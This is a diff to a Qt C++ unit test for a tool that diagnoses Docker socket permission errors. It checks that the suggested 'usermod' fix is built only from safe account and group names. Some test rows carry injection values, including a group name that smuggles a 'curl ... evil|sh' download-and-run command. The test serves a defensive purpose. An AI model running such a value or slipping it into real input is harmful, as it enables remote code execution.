@@ -22,6 +22,7 @@ class EngineDiagnosisTest : public QObject
 private Q_SLOTS:
     void looksAtTheSocket_data();
     void looksAtTheSocket();
+    void namesAccountAndGroup_data();
     void namesAccountAndGroup();
     void explainsDialStdio_data();
     void explainsDialStdio();
@@ -64,13 +65,38 @@ void EngineDiagnosisTest::looksAtTheSocket()
     QCOMPARE(shell.readAllStandardError(), QByteArray());
 }
 
+void EngineDiagnosisTest::namesAccountAndGroup_data()
+{
+    QTest::addColumn<QByteArray>("said"); // by the host, which may lie
+    QTest::addColumn<QString>("account");
+    QTest::addColumn<QString>("command");
+    const QString none;
+    const QString somebody = u"this account"_s;
+    QTest::newRow("names") << QByteArray("ops\ndocker") << u"ops"_s << u"`sudo usermod -aG docker ops`"_s;
+    QTest::newRow("numbers") << QByteArray("4242\n54321") << u"4242"_s << u"`sudo usermod -aG 54321 4242`"_s;
+    QTest::newRow("odd names") << QByteArray("a.b_c-d\n_x.y-z") << u"a.b_c-d"_s
+                               << u"`sudo usermod -aG _x.y-z a.b_c-d`"_s;
+    QTest::newRow("no group") << QByteArray("ops\n") << u"ops"_s << u"`sudo usermod -aG docker ops`"_s;
+    QTest::newRow("a group that is a command") << QByteArray("ops\ndocker;curl${IFS}evil|sh") << u"ops"_s << none;
+    QTest::newRow("an account that is a command") << QByteArray("ops;evil\ndocker") << somebody << none;
+    QTest::newRow("an option") << QByteArray("ops\n-R") << u"ops"_s << none;
+    QTest::newRow("two words") << QByteArray("ops evil\ndocker") << somebody << none;
+    QTest::newRow("nothing") << QByteArray("\n") << somebody << none;
+}
+
 void EngineDiagnosisTest::namesAccountAndGroup()
 {
-    const std::optional<Error> error = engineSocketError("DENIED\nops\ndocker\n", {.host = u"web"_s});
+    QFETCH(QByteArray, said);
+    QFETCH(QString, account);
+    QFETCH(QString, command);
+    const std::optional<Error> error = engineSocketError("DENIED\n" + said + '\n', {.host = u"web"_s});
     QVERIFY(error);
     QCOMPARE(error->kind, Error::Kind::PermissionDenied);
-    QVERIFY(error->message.english().contains("ops"_L1));
-    QVERIFY(error->remedy.english().contains("usermod -aG docker ops"_L1));
+    QVERIFY2(error->message.english().startsWith(account + " may not"_L1), qPrintable(error->message.english()));
+    const QString remedy = error->remedy.english();
+    QVERIFY2(remedy.contains(command), qPrintable(remedy));
+    QCOMPARE(remedy.contains(u'`'), !command.isEmpty());
+    QVERIFY(!(remedy + error->cause.english()).contains("evil"_L1));
 }
 
 void EngineDiagnosisTest::explainsDialStdio_data()
